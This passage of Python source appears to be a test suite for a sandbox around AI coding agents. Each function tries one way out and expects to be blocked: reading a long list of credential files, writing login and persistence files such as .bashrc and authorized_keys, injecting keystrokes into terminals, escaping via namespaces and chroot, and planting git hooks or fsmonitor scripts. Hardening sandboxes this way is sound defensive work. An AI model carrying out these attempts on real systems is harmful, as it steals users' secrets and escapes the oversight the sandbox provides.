    return None if int(content("/proc/self/oom_score_adj")) > 0 else "others are ended first"


@attempt(may_fail=ROOT)
def raise_ones_own_limit(v: str) -> object:
    soft, hard = resource.getrlimit(resource.RLIMIT_NPROC)
    if hard == resource.RLIM_INFINITY:
        return "no limit"
    resource.setrlimit(resource.RLIMIT_NPROC, (soft, hard + 1))
    return "raised"


@attempt(may_fail=ROOT)
def hold_more_memory_than_is_lent(v: str) -> object:
    hard = resource.getrlimit(resource.RLIMIT_MEMLOCK)[1]
    if hard != resource.RLIM_INFINITY:
        resource.setrlimit(resource.RLIMIT_MEMLOCK, (hard + 4096, hard + 4096))
    return "locked"


# --- descriptors that were open before the sandbox ---


@attempt()
def an_inherited_file(v: str) -> None:
    os.write(S.inherited_log, b"an_inherited_file\n")


@attempt()
def an_inherited_folder(v: str) -> object:
    return secret_in(content(f"/proc/self/fd/{os.open('secret', os.O_RDONLY, dir_fd=S.inherited_folder)}"))


@attempt()
def an_inherited_folder_for_writing(v: str) -> None:
    os.mkdir("an_inherited_folder_for_writing/new", dir_fd=S.inherited_folder)


@attempt(f"{WORKSPACE} {NET}")
def an_inherited_socket(v: str) -> None:
    os.write(S.inherited_socket, b"an_inherited_socket\n")


@attempt()
def a_program_gets_what_is_open(v: str) -> object:
    """Close-on-exec is no sandbox: the flag can be taken away."""
    for held in range(3, 64):
        with contextlib.suppress(OSError):
            fcntl.fcntl(held, fcntl.F_SETFD, 0)
            if os.readlink(f"/proc/self/fd/{held}").startswith((S.out, S.home)):
                return run("ls", f"/proc/self/fd/{held}/", pass_fds=[held]) or "open"
    return None


# --- sockets, queues, shared memory ---


def _says(name: str, path: str, *, on: str = WORKSPACE, may_fail: str = "") -> None:
    """Connect to a socket of the person by a path or an abstract name, and say who we are."""

    def body(v: str) -> None:
        with socket.socket(socket.AF_UNIX) as line:
            line.connect(getattr(S, path).replace("@", "\0"))
            line.sendall(name.encode() + b"\n")
            line.recv(100)

    body.__name__ = name
    attempt(on, may_fail)(body)


_says("an_abstract_socket", "abstract")
_says("a_socket_in_tmp", "socket_tmp")
_says("a_socket_in_run", "socket_run", may_fail="a test of an ordinary user has none there")
_says("the_agent_of_ssh", "socket_ssh")
_says("the_agent_of_gpg", "socket_gpg")
_says("a_socket_in_the_home_folder", "socket_home", on=NET)
_says("a_socket_beside_the_workspace", "socket_out", on=NET)


@attempt()
def descriptors_over_an_abstract_socket(v: str) -> object:
    with socket.socket(socket.AF_UNIX) as line:
        line.connect(S.abstract.replace("@", "\0"))
        line.sendall(b"give\n")
        _, held, _, _ = socket.recv_fds(line, 100, 1)
        os.mkdir("descriptors_over_an_abstract_socket/new", dir_fd=held[0])
        return "a folder outside"


@attempt()
def descriptors_over_a_datagram(v: str) -> object:
    with socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM) as line:
        line.sendto(b"descriptors_over_a_datagram\n", S.datagram.replace("@", "\0"))
    return None


@attempt()
def signal_by_a_pidfd_of_the_peer(v: str) -> None:
    """A socket hands out a descriptor of the process at its other end, also across namespaces."""
    with socket.socket(socket.AF_UNIX) as line:
        line.connect(S.socket_out)
        held = struct.unpack("i", line.getsockopt(socket.SOL_SOCKET, 77, 4))[0]
        call(424, held, SIGNALS["signal_by_a_pidfd_of_the_peer"], None, 0)


@attempt()
def namespaces_by_a_pidfd_of_the_peer(v: str) -> object:
    with socket.socket(socket.AF_UNIX) as line:
        line.connect(S.socket_out)
        held = struct.unpack("i", line.getsockopt(socket.SOL_SOCKET, 77, 4))[0]
        return f"a namespace {fcntl.ioctl(held, 0xFF03)}"


@attempt()
def a_descriptor_by_a_pidfd_of_the_peer(v: str) -> object:
    with socket.socket(socket.AF_UNIX) as line:
        line.connect(S.socket_out)
        held = struct.unpack("i", line.getsockopt(socket.SOL_SOCKET, 77, 4))[0]
        return secret_in(os.pread(call(438, held, S.secret_fd, 0), 100, 0).decode())


@attempt()
def a_file_in_shared_memory(v: str) -> object:
    return secret_in(content(S.shm))


@attempt()
def write_to_shared_memory(v: str) -> None:
    put(S.shm + "-written", "changed")


@attempt()
def memory_of_system_v(v: str) -> object:
    LIBC.shmat.restype = ctypes.c_void_p
    place = LIBC.shmat(S.shmid, None, 0)
    if place in (None, ctypes.c_void_p(-1).value):
        raise OSError(ctypes.get_errno(), "no such memory")
    return secret_in(ctypes.string_at(place, 64).decode("latin-1"))


@attempt()
def memory_of_system_v_by_its_key(v: str) -> object:
    return f"number {call(29, S.key, 1, 0)}"


@attempt()
def a_queue_of_system_v(v: str) -> object:
    return f"number {call(68, S.key, 0)}"


@attempt()
def a_semaphore_of_system_v(v: str) -> object:
    return f"number {call(64, S.key, 1, 0)}"


@attempt(may_fail=KERNEL)
def a_queue_of_posix(v: str) -> object:
    return f"opened {call(240, S.queue.encode(), os.O_RDWR, 0, None)}"


@attempt()
def a_file_in_tmp(v: str) -> object:
    return secret_in(content(S.tmp + "/secret"))


@attempt()
def write_to_a_file_in_tmp(v: str) -> None:
    put(S.tmp + "/written", "changed")


@attempt()
def make_a_name_in_tmp_that_others_will_use(v: str) -> None:
    os.symlink("/etc/passwd", S.tmp + "/new")


# --- terminals ---


def _terminal() -> int:
    return os.open("/dev/tty", os.O_RDWR | os.O_NOCTTY) if os.path.exists("/dev/tty") else 0


def _tiocsti(request: int, text: bytes) -> None:
    for held in (0, 1, 2, _terminal()):
        for letter in text:
            with contextlib.suppress(OSError):
                call(16, held, request, bytes([letter]))


@attempt(may_fail=KERNEL)
def type_into_the_terminal(v: str) -> None:
    _tiocsti(termios.TIOCSTI, b"type_into_the_terminal\n")


@attempt(may_fail=KERNEL)
def type_into_the_terminal_with_a_high_bit(v: str) -> None:
    _tiocsti(HIGH | termios.TIOCSTI, b"type_into_the_terminal_with_a_high_bit\n")


@attempt(may_fail=KERNEL)
def type_by_the_selection_of_a_console(v: str) -> object:
    return f"pasted {fcntl.ioctl(os.open('/dev/tty1', os.O_RDWR | os.O_NOCTTY), 0x541C, bytes([3]))!r}"


@attempt()
def write_to_another_terminal_of_the_person(v: str) -> None:
    os.write(os.open(S.other_tty, os.O_WRONLY | os.O_NOCTTY), b"write_to_another_terminal_of_the_person\n")


@attempt()
def read_what_is_typed_in_another_terminal(v: str) -> object:
    return f"opened {os.open(S.other_tty, os.O_RDONLY | os.O_NOCTTY | os.O_NONBLOCK)}"


@attempt(may_fail=ROOT)
def hang_up_the_terminal(v: str) -> object:
    os.setsid()
    return f"hung up {call(153)}"


# --- namespaces and mounts ---

NAMESPACES = {
    "user": 0x10000000,
    "mount": 0x20000,
    "network": 0x40000000,
    "process": 0x20000000,
    "ipc": 0x8000000,
    "name": 0x4000000,
    "group": 0x2000000,
    "time": 0x80,
}


def _in_a_new_namespace(kind: str, flag: int) -> None:
    def body(v: str) -> object:
        return f"made {call(272, flag)}"

    body.__name__ = f"a_new_{kind}_namespace"
    attempt(f"{WORKSPACE} {NET}" if kind == "network" else WORKSPACE, "" if kind == "user" else ROOT)(body)


for _kind, _flag in NAMESPACES.items():
    _in_a_new_namespace(_kind, _flag)


@attempt()
def a_new_user_namespace_and_its_mounts(v: str) -> object:
    call(272, 0x10000000 | 0x20000)
    call(165, b"none", f"{v}/folder".encode(), b"tmpfs", 0, None)
    return "mounted"


@attempt()
def a_new_user_namespace_by_clone(v: str) -> object:
    child = call(56, 0x10000000 | signal.SIGCHLD, 0, 0, 0, 0)
    if not child:
        os._exit(0)
    os.waitpid(child, 0)
    return "made"


@attempt()
def a_new_user_namespace_by_clone3(v: str) -> object:
    child = call(435, struct.pack("11Q", 0x10000000, 0, 0, 0, signal.SIGCHLD, 0, 0, 0, 0, 0, 0), 88)
    if not child:
        os._exit(0)
    os.waitpid(child, 0)
    return "made"


@attempt()
def a_new_user_namespace_by_the_program(v: str) -> object:
    return run("unshare", "--user", "--map-root-user", "sh", "-c", "echo made")


def _machine_code(code: bytes) -> int:
    """A few bytes of machine code, called as a function."""
    memory = mmap.mmap(-1, 4096, prot=7)
    memory.write(code)
    place = ctypes.addressof(ctypes.c_char.from_buffer(memory))
    return int(ctypes.CFUNCTYPE(ctypes.c_int)(place)())


def _by_32_bits(number: int, first: int, name: str, meaning: Callable[[int], object]) -> None:
    def body(v: str) -> object:
        code = (
            b"\x53\xb8" + struct.pack("I", number) + b"\xbb" + struct.pack("I", first) + b"\xcd\x80\x5b\xc3"
        )
        found = _machine_code(code)
        if found < 0:
            raise OSError(-found, os.strerror(-found))
        return meaning(found)

    body.__name__ = name
    attempt(may_fail=KERNEL)(body)


_by_32_bits(310, 0x10000000, "a_new_user_namespace_by_a_call_of_32_bits", lambda found: f"made {found}")
_by_32_bits(20, 0, "any_call_of_32_bits", lambda found: f"process {found}")
_by_32_bits(288, 0, "a_keyring_by_a_call_of_32_bits", lambda found: f"keyring {found}")


@attempt(may_fail=KERNEL)
def any_call_of_the_x32_table(v: str) -> object:
    return f"process {call(0x40000000 | 39)}"


def _enters(kind: str) -> None:
    def body(v: str) -> object:
        return f"entered {call(308, os.open(f'/proc/{number()}/ns/{kind}', os.O_RDONLY), 0)}"

    body.__name__ = f"enter_its_{kind}_namespace"
    attempt(may_fail="entering a namespace takes rights in it")(body)


for _kind in ("user", "mnt", "pid", "net", "ipc"):
    _enters(_kind)


@attempt(may_fail="entering a namespace takes rights in it")
def enter_all_its_namespaces_by_pidfd(v: str) -> object:
    return f"entered {call(308, call(434, number(), 0), 0x20000 | 0x8000000)}"


@attempt(may_fail="there is no parent to enter without the sandbox")
def enter_the_parent_of_our_namespaces(v: str) -> object:
    for kind in ("user", "pid"):
        with contextlib.suppress(OSError):
            parent = fcntl.ioctl(os.open(f"/proc/self/ns/{kind}", os.O_RDONLY), 0xB702)
            return f"a parent {parent}"
    raise PermissionError("no parent")


@attempt(may_fail="the namespaces are the same without the sandbox")
def enter_our_own_mounts_again(v: str) -> object:
    return f"entered {call(308, os.open('/proc/self/ns/mnt', os.O_RDONLY), 0)}"


def _mounts(name: str, *arguments: object) -> None:
    def body(v: str) -> object:
        made = [one.format(v=v, work=S.work).encode() if isinstance(one, str) else one for one in arguments]
        return f"done {call(165, *made)}"

    body.__name__ = name
    attempt(may_fail=ROOT)(body)


_mounts("mount_over_something", "none", "{v}/folder", "tmpfs", 0, None)
_mounts("mount_outside_in_the_workspace", "{v}", "{work}/folder", None, 0x1000, None)
_mounts("mount_the_root_in_the_workspace", "/", "{work}/folder", None, 0x1000, None)
_mounts("make_the_root_writable", None, "/", None, 0x20 | 0x1000, None)
_mounts("mount_processes", "proc", "{work}/folder", "proc", 0, None)
_mounts("make_mounts_shared", None, "/", None, 0x100000 | 0x4000, None)


@attempt(may_fail=ROOT)
def unmount_what_covers(v: str) -> object:
    for place in ("/dev/shm", "/run", "/tmp", f"{S.work}/.git/hooks", f"{S.work}/.git"):
        with contextlib.suppress(OSError):
            return f"{place} {call(166, place.encode(), 2)}"
    raise PermissionError("nothing can be unmounted")


@attempt(may_fail=ROOT)
def a_copy_of_the_mounts_without_what_covers(v: str) -> object:
    return f"a tree {call(428, -100, S.work.encode(), 1)}"


@attempt()
def a_tree_of_mounts_for_its_path(v: str) -> object:
    held = call(428, -100, f"{S.work}/.git".encode(), 0)
    os.write(os.open("config", os.O_WRONLY | os.O_APPEND, dir_fd=held), b"# changed\n")
    return "changed what git obeys"


@attempt(may_fail=KERNEL)
def a_tree_of_mounts_with_other_attributes(v: str) -> object:
    return f"a tree {call(467, -100, S.out.encode(), 1, struct.pack('QQQQ', 0, 1, 0, 0), 32)}"


@attempt(may_fail=ROOT)
def move_a_mount(v: str) -> object:
    return reaches(429, -100, b"/dev/shm", -100, f"{S.work}/folder".encode(), 0)


@attempt(may_fail=ROOT)
def open_a_file_system(v: str) -> object:
    return f"a file system {call(430, b'tmpfs', 0)}"


@attempt(may_fail=ROOT)
def pick_a_file_system(v: str) -> object:
    return f"a file system {call(433, -100, b'/', 0)}"


@attempt(may_fail=ROOT)
def a_mount_loses_an_attribute(v: str) -> object:
    return f"done {call(442, -100, b'/', 0, struct.pack('QQQQ', 0, 1, 0, 0), 32)}"


@attempt(may_fail=ROOT)
def exchange_the_root(v: str) -> object:
    return reaches(155, S.work.encode(), S.work.encode())


@attempt(may_fail=ROOT)
def leave_by_chroot(v: str) -> object:
    held = os.open("/", os.O_RDONLY)
    os.chroot(S.work)
    os.fchdir(held)
    return "outside the root"


# --- the kernel ---


@attempt(may_fail=KERNEL)
def a_key_of_the_person(v: str) -> object:
    found = call(249, b"user", S.tag.encode(), None, -4)
    text = buffer(100)
    call(250, 11, found, text, 100)
    return secret_in(text.value.decode())


@attempt(may_fail=KERNEL)
def put_a_key_where_others_look(v: str) -> object:
    return f"key {call(248, b'user', b'dragoman-attempt', b'1', 1, -4)}"


@attempt(may_fail=KERNEL)
def join_a_keyring(v: str) -> object:
    return f"keyring {call(250, 1, b'dragoman-attempt')}"


@attempt(may_fail=KERNEL)
def faults_of_pages_in_user_space(v: str) -> object:
    return f"descriptor {call(323, 1)}"


@attempt(may_fail=ROOT)
def a_program_of_bpf(v: str) -> object:
    return f"map {call(321, 0, struct.pack('IIIII', 2, 4, 8, 1, 0) + bytes(100), 120)}"


@attempt(may_fail=KERNEL)
def count_what_oneself_does(v: str) -> object:
    return f"counter {call(298, struct.pack('IIQQQQQ', 1, 128, 1, 0, 0, 0, 0x60) + bytes(80), 0, -1, -1, 0)}"


def _reaches(name: str, number: int, *arguments: object, may_fail: str = ROOT) -> None:
    def body(v: str) -> object:
        return reaches(number, *arguments)

    body.__name__ = name
    attempt(may_fail=may_fail)(body)


_reaches("another_kernel", 246, 0, 1 << 20, None, 0, may_fail=f"{ROOT}, or {KERNEL}")
_reaches("another_kernel_of_a_file", 320, -1, -1, 0, None, 0, may_fail=f"{ROOT}, or {KERNEL}")
_reaches("a_module_from_memory", 175, b"", 0, b"", may_fail=f"{ROOT}, or {KERNEL}")
_reaches("a_module_from_a_file", 313, -1, b"", 0, may_fail=f"{ROOT}, or {KERNEL}")
_reaches("unload_a_module", 176, b"there-is-no-such-module", 0, may_fail=f"{ROOT}, or {KERNEL}")
_reaches("ports_of_the_machine", 173, 0, 1, 0)
_reaches("all_ports_of_the_machine", 172, 0)
_reaches("restart_the_machine", 169, 1, 2, 3)


@attempt(may_fail=ROOT)
def set_the_clock(v: str) -> object:
    return reaches(227, 0, struct.pack("qq", *divmod(time.time_ns(), 10**9)))


@attempt(may_fail=ROOT)
def steer_the_clock(v: str) -> object:
    state = buffer(208)
    call(159, state)
    struct.pack_into("I", state, 0, 0x4000)
    return f"state {call(159, state)}"


@attempt(may_fail=ROOT)
def name_the_machine(v: str) -> object:
    name = os.uname().nodename
    return f"named {call(170, name.encode(), len(name))}"


@attempt(may_fail=ROOT)
def name_the_domain_of_the_machine(v: str) -> object:
    return f"named {call(171, b'(none)', 6)}"


OF_FILES = 0xEB
"""Root keeps what it may do to files and users, in its own namespace."""


@attempt(may_fail=ROOT)
def get_more_rights_by_a_program(v: str) -> object:
    for line in content("/proc/self/status").splitlines():
        if line.startswith("CapBnd") and int(line.split()[1], 16) & ~OF_FILES:
            return line if os.getuid() == 0 else None
    raise PermissionError("no capability can be had")


def _family(
    name: str, family: int, kind: int, protocol: int = 0, may_fail: str = KERNEL, high: int = 0
) -> None:
    def body(v: str) -> object:
        return f"a socket {call(41, family | high, kind, protocol)}"

    body.__name__ = name
    HARMLESS.add(name)
    attempt(f"{WORKSPACE} {NET}", may_fail)(body)


_family("packets", 17, 3, 0x300, ROOT)
_family("packets_with_a_high_bit", 17, 3, 0x300, ROOT, HIGH)
_family("raw_sockets", 2, 3, 1, ROOT)
_family("raw_sockets_of_version_6", 10, 3, 58, ROOT)
_family("the_line_to_the_host_of_a_virtual_machine", 40, 1)
_family("the_line_to_the_host_with_a_high_bit", 40, 1, 0, KERNEL, HIGH)
_family("ciphers_of_the_kernel", 38, 5)
_family("keys_of_the_network", 15, 3, 2, f"{ROOT}, or {KERNEL}")
_family("bluetooth", 31, 3, 1)
_family("tipc", 30, 1)
_family("fast_packets", 44, 3, 0)
_family("infiniband", 27, 1)
_family("shared_memory_of_networks", 43, 1)
_family("reliable_datagrams", 21, 5)
_family("ping", 2, 2, 1, f"{ROOT}, or {KERNEL}")
_family("can", 29, 3, 1)
_family("audit", 16, 3, 9)
_family("netfilter", 16, 3, 12)
_family("devices_that_come_and_go", 16, 2, 15)
_family("diagnosis_of_sockets", 16, 3, 4)
_family("netlink_with_a_high_bit", 16, 3, 12, KERNEL, HIGH)


@attempt(f"{WORKSPACE} {NET}", may_fail=ROOT)
def another_address_for_this_machine(v: str) -> object:
    run("ip", "address", "add", "127.9.9.9/32", "dev", "lo")
    run("ip", "address", "del", "127.9.9.9/32", "dev", "lo")
    return "an address"


@attempt(f"{WORKSPACE} {NET}", may_fail=ROOT)
def a_device_is_put_down_and_up(v: str) -> object:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as line:
        flags = struct.unpack("16sH", fcntl.ioctl(line, 0x8913, struct.pack("16sH14x", b"lo", 0))[:18])[1]
        fcntl.ioctl(line, 0x8914, struct.pack("16sH14x", b"lo", flags))
    return "flags set"


# --- secrets of the person ---

SECRETS = (
    ".ssh/id_ed25519",
    ".ssh/config",
    ".gnupg/private-keys-v1.d/key.key",
    ".aws/credentials",
    ".azure/msal_token_cache.json",
    ".config/gcloud/credentials.db",
    ".kube/config",
    ".docker/config.json",
    ".netrc",
    ".git-credentials",
    ".config/gh/hosts.yml",
    ".config/glab-cli/config.yml",
    ".pypirc",
    ".npmrc",
    ".cargo/credentials.toml",
    ".gem/credentials",
    ".m2/settings.xml",
    ".gradle/gradle.properties",
    ".config/composer/auth.json",
    ".nuget/NuGet/NuGet.Config",
    ".pgpass",
    ".my.cnf",
    ".password-store/site.gpg",
    ".local/share/keyrings/login.keyring",
    ".local/share/kwalletd/kdewallet.kwl",
    ".config/google-chrome/Default/Cookies",
    ".config/chromium/Default/Login Data",
    ".mozilla/firefox/x.default/cookies.sqlite",
    ".config/BraveSoftware/Brave-Browser/Default/Cookies",
    ".thunderbird/x.default/logins.json",
    ".bash_history",
    ".zsh_history",
    ".python_history",
    ".psql_history",
    ".mysql_history",
    ".node_repl_history",
    ".local/share/fish/fish_history",
    ".lesshst",
    ".vault-token",
    ".terraform.d/credentials.tfrc.json",
    ".config/rclone/rclone.conf",
    ".s3cfg",
    ".boto",
    ".databrickscfg",
    ".config/sops/age/keys.txt",
    ".config/op/config",
    ".config/doctl/config.yaml",
    ".config/hub",
    ".cache/huggingface/token",
    ".huggingface/token",
    ".kaggle/kaggle.json",
    ".oci/config",
    ".fly/config.yml",
    ".config/heroku/config.json",
    ".config/netlify/config.json",
    ".wrangler/config/default.toml",
    ".bitcoin/wallet.dat",
    ".electrum/wallets/default",
    ".config/Signal/sql/db.sqlite",
    ".config/Slack/Cookies",
    ".config/discord/Cookies",
    ".local/share/TelegramDesktop/tdata/key_datas",
    ".claude/.credentials.json",
    ".codex/auth.json",
    ".gemini/oauth_creds.json",
    ".config/github-copilot/apps.json",
    ".config/dragoman/hub-tokens",
    ".local/share/dragoman/secret",
    ".local/state/dragoman/secret",
    ".ansible/vault",
    ".vnc/passwd",
    ".config/remmina/remmina.pref",
    ".config/filezilla/sitemanager.xml",
    ".Xauthority",
    ".ICEauthority",
    ".config/pulse/cookie",
    ".config/Bitwarden/data.json",
    ".config/keepassxc/keepassxc.ini",
    ".local/share/containers/auth.json",
    ".config/containers/auth.json",
    ".step/secrets/root_ca_key",
    ".minikube/ca.key",
    ".putty/sshhostkeys",
    ".irssi/config",
    ".config/msmtp/config",
    ".msmtprc",
    ".fetchmailrc",
    ".some-new-tool/token",
    ".config/some-new-tool/login.json",
    ".another-tool",
)


def _reads(path: str) -> None:
    def body(v: str) -> object:
        return secret_in(content(f"{S.home}/{path}"))

    body.__name__ = f"read {path}"
    HARMLESS.add(body.__name__)
    attempt(f"{WORKSPACE} {HOME}")(body)


for _path in SECRETS:
    _reads(_path)


@attempt()
def a_secret_by_a_link(v: str) -> object:
    os.symlink(f"{S.home}/.ssh", f"{S.work}/innocent")
    return secret_in(content(f"{S.work}/innocent/id_ed25519"))


@attempt()
def a_secret_by_the_root_of_a_process(v: str) -> object:
    return secret_in(content(f"/proc/self/root{S.home}/.ssh/id_ed25519"))


@attempt()
def a_secret_by_a_hard_link(v: str) -> object:
    os.link(f"{S.home}/.netrc", f"{S.work}/innocent-file")
    return secret_in(content(f"{S.work}/innocent-file"))


@attempt()
def a_secret_by_dots(v: str) -> object:
    return secret_in(content(f"{S.work}/../home/.cache/../.ssh/id_ed25519"))


@attempt(may_fail=ROOT)
def a_secret_by_its_handle(v: str) -> object:
    held = call(304, os.open(S.home, os.O_RDONLY), handle_of(f"{S.home}/.ssh/id_ed25519"), os.O_RDONLY)
    return secret_in(os.read(held, 100).decode())


# --- the home folder: what the next shell, login or session starts ---

STARTS = (
    ".bashrc",
    ".profile",
    ".zshenv",
    ".config/fish/config.fish",
    ".config/autostart/new.desktop",
    ".config/systemd/user/new.service",
    ".local/bin/ls",
    ".gitconfig",
    ".config/git/config",
    ".config/git/hooks/pre-commit",
    ".vimrc",
    ".config/nvim/init.lua",
    ".config/environment.d/new.conf",
    ".pam_environment",
    ".ssh/authorized_keys",
    ".ssh/rc",
    ".config/direnv/direnvrc",
    ".inputrc",
    ".config/pip/pip.conf",
    ".cargo/config.toml",
    ".pydistutils.cfg",
    ".local/share/dbus-1/services/new.service",
    ".xsessionrc",
    ".local/lib/python3.11/site-packages/usercustomize.py",
    ".claude/settings.json",
    ".config/Code/User/settings.json",
    ".config/dragoman/policy.toml",
    ".tmux.conf",
    ".gdbinit",
    ".cache/pip/new",
    ".npm/_cacache/new",
)


def _starts(path: str) -> None:
    def body(v: str) -> None:
        os.makedirs(os.path.dirname(f"{S.home}/{path}"), exist_ok=True)
        put(f"{S.home}/{path}", "changed")

    body.__name__ = f"write ~/{path}"
    HARMLESS.add(body.__name__)
    attempt(f"{WORKSPACE} {HOME}")(body)


for _path in STARTS:
    _starts(_path)


# --- settings in the workspace that programs of the person obey ---

SETTINGS = (
    ".dragoman/policy.toml",
    ".dragoman/rules/one.toml",
    ".claude/settings.json",
    ".claude/settings.local.json",
    ".claude/agents/one.md",
    ".mcp.json",
    ".vscode/tasks.json",
    ".vscode/settings.json",
    ".idea/workspace.xml",
    ".zed/tasks.json",
    ".cursor/mcp.json",
    ".gemini/settings.json",
    ".codex/config.toml",
    ".qwen/settings.json",
    ".opencode/opencode.json",
    "opencode.json",
    ".envrc",
    ".devcontainer/devcontainer.json",
    ".nvim.lua",
    ".exrc",
    ".dir-locals.el",
    ".husky/pre-commit",
    ".fleet/run.json",
    ".windsurf/hooks.json",
    ".kimi/config.toml",
    ".roo/mcp.json",
    ".amp/settings.json",
    ".factory/settings.json",
    "work.code-workspace",
    ".mise.toml",
    ".autoenv",
    ".gdbinit",
    ".lvimrc",
)


MOVED = (".dragoman/audit.toml", ".vscode/launch.json")


def _obeys(path: str, how: str) -> None:
    def body(v: str) -> None:
        place = f"{S.work}/{path}"
        if how != "move away":
            os.makedirs(os.path.dirname(place), exist_ok=True)
        if how == "write":
            put(place, "changed")
        elif how == "replace":
            put(place + ".new", "changed")
            os.rename(place + ".new", place)
        else:
            top = f"{S.work}/{path.split('/')[0]}"
            os.rename(top, top + "-away")
            if "/" in path:
                os.makedirs(os.path.dirname(place))
            put(place, "changed")

    body.__name__ = f"{how} {path}"
    HARMLESS.add(body.__name__)
    attempt()(body)


for _at, _path in enumerate(SETTINGS):
    _obeys(_path, ("write", "replace", "move away")[_at % 3])
for _path in MOVED:
    _obeys(_path, "move away")


# --- git: each attempt has a repository of its own; afterwards the person works there ---

PAYLOAD = '#!/bin/sh\necho obeyed > "{v}/obeyed"\n'
GIT: list[str] = []


def repository(name: str) -> Callable[[Callable[[str, str], object]], None]:
    """A repository of the attempt's own. What git obeys there writes into the attempt's folder outside."""

    def keep(body: Callable[[str, str], object]) -> None:
        def tried(v: str) -> object:
            return body(v, f"{S.work}/{name}")

        tried.__name__ = name
        GIT.append(name)
        attempt()(tried)

    return keep


def script(path: str, v: str) -> str:
    put(path, PAYLOAD.format(v=v))
    os.chmod(path, 0o755)
    return path


@repository("git_a_new_hook")
def _a_new_hook(v: str, r: str) -> None:
    script(f"{r}/.git/hooks/pre-commit", v)


@repository("git_a_changed_hook")
def _a_changed_hook(v: str, r: str) -> None:
    with open(f"{r}/.git/hooks/post-checkout", "r+") as file:
        file.write(PAYLOAD.format(v=v))


@repository("git_hooks_moved_away")
def _hooks_moved(v: str, r: str) -> None:
    os.rename(f"{r}/.git/hooks", f"{r}/.git/hooks-away")
    os.mkdir(f"{r}/.git/hooks")
    script(f"{r}/.git/hooks/pre-commit", v)


@repository("git_hooks_replaced_by_a_link")
def _hooks_link(v: str, r: str) -> None:
    os.mkdir(f"{r}/mine")
    script(f"{r}/mine/pre-commit", v)
    run("rm", "-rf", f"{r}/.git/hooks")
    os.symlink(f"{r}/mine", f"{r}/.git/hooks")


@repository("git_config_by_hand")
def _config(v: str, r: str) -> None:
    with open(f"{r}/.git/config", "a") as file:
        file.write(f"[core]\n fsmonitor = {script(f'{r}/monitor', v)}\n")


@repository("git_config_by_git")
def _config_by_git(v: str, r: str) -> None:
    run("git", "-C", r, "config", "core.fsmonitor", script(f"{r}/monitor", v))


@repository("git_config_renamed_over")
def _config_renamed(v: str, r: str) -> None:
    put(
        f"{r}/.git/config.new",
        content(f"{r}/.git/config") + f"[core]\n fsmonitor = {script(f'{r}/monitor', v)}\n",
    )
    os.rename(f"{r}/.git/config.new", f"{r}/.git/config")


@repository("git_config_exchanged")
def _config_exchanged(v: str, r: str) -> None:
    put(f"{r}/other", content(f"{r}/.git/config") + f"[core]\n fsmonitor = {script(f'{r}/monitor', v)}\n")
    call(316, -100, f"{r}/other".encode(), -100, f"{r}/.git/config".encode(), 2)


@repository("git_config_removed")
def _config_removed(v: str, r: str) -> None:
    script(f"{r}/monitor", v)
    text = content(f"{r}/.git/config")
    os.unlink(f"{r}/.git/config")
    put(f"{r}/.git/config", f"{text}[core]\n fsmonitor = {r}/monitor\n")


@repository("git_missing_hooks")
def _missing_hooks(v: str, r: str) -> None:
    os.makedirs(f"{r}/.git/hooks", exist_ok=True)
    script(f"{r}/.git/hooks/pre-commit", v)


@repository("git_a_work_tree_elsewhere_gets_another_folder")
def _linked_folder(v: str, r: str) -> None:
    """The folder that the repository has for it is replaced as a whole."""
    run("cp", "-r", f"{r}/.git", f"{r}/copy")
    script(f"{r}/copy/hooks/pre-commit", v)
    os.rename(f"{r}/.git/worktrees", f"{r}/.git/old")
    run("cp", "-r", f"{r}/.git/old", f"{r}/.git/worktrees")
    put(f"{r}/.git/worktrees/linked/commondir", f"{r}/copy\n")


@repository("git_folder_moved_away")
def _folder_moved(v: str, r: str) -> None:
    os.rename(f"{r}/.git", f"{r}/away")
    run("cp", "-r", f"{r}/away", f"{r}/.git")
    script(f"{r}/.git/hooks/pre-commit", v)


@repository("git_folder_replaced_by_a_link")
def _folder_link(v: str, r: str) -> None:
    run("cp", "-r", f"{r}/.git", f"{r}/copy")
    script(f"{r}/copy/hooks/pre-commit", v)
    os.rename(f"{r}/.git", f"{r}/away")
    os.symlink("copy", f"{r}/.git")


@repository("git_folder_replaced_by_a_file")
def _folder_file(v: str, r: str) -> None:
    run("cp", "-r", f"{r}/.git", f"{r}/copy")
    script(f"{r}/copy/hooks/pre-commit", v)
    os.rename(f"{r}/.git", f"{r}/away")
    put(f"{r}/.git", "gitdir: copy\n")


@repository("git_another_common_folder")
def _common(v: str, r: str) -> None:
    """`commondir` in a folder of git makes git take configuration and hooks from elsewhere."""
    run("cp", "-r", f"{r}/.git", f"{r}/copy")
    with open(f"{r}/copy/config", "a") as file:
        file.write(f"[core]\n fsmonitor = {script(f'{r}/monitor', v)}\n")
    script(f"{r}/copy/hooks/pre-commit", v)
    put(f"{r}/.git/commondir", "../copy\n")


@repository("git_config_of_a_work_tree")
def _config_worktree(v: str, r: str) -> None:
    """The repository has `extensions.worktreeConfig`, as sparse checkouts set it."""
    put(f"{r}/.git/config.worktree", f"[core]\n fsmonitor = {script(f'{r}/monitor', v)}\n")


@repository("git_an_included_file")
def _included(v: str, r: str) -> None:
    """Its configuration includes `../shared.gitconfig`, a file of the workspace."""
    with open(f"{r}/shared.gitconfig", "a") as file:
        file.write(f"[core]\n fsmonitor = {script(f'{r}/monitor', v)}\n")


@repository("git_a_file_included_by_a_condition")
def _included_if(v: str, r: str) -> None:
    """`includeIf`, and the file is not there yet."""
    put(f"{r}/later.gitconfig", f"[core]\n fsmonitor = {script(f'{r}/monitor', v)}\n")


@repository("git_a_folder_of_hooks_in_the_workspace")
def _hooks_path(v: str, r: str) -> None:
    script(f"{r}/.githooks/pre-commit", v)


@repository("git_hooks_that_are_a_link_into_the_workspace")
def _hooks_linked(v: str, r: str) -> None:
    script(f"{r}/linked-hooks/pre-commit", v)


@repository("git_attributes_and_a_filter")
def _filter(v: str, r: str) -> None:
    put(f"{r}/.git/info/attributes", "* filter=mine\n")
    run("git", "-C", r, "config", "filter.mine.clean", script(f"{r}/clean", v))


@repository("git_a_work_tree_elsewhere_gets_another_common_folder")
def _linked_common(v: str, r: str) -> None:
    """The person has a second work tree outside the session, of which the repository knows."""
    run("cp", "-r", f"{r}/.git", f"{r}/copy")
    with open(f"{r}/copy/config", "a") as file:
        file.write(f"[core]\n fsmonitor = {script(f'{r}/monitor', v)}\n")
    put(f"{r}/.git/worktrees/linked/commondir", f"{r}/copy\n")


@repository("git_a_work_tree_elsewhere_gets_a_configuration")
def _linked_config(v: str, r: str) -> None:
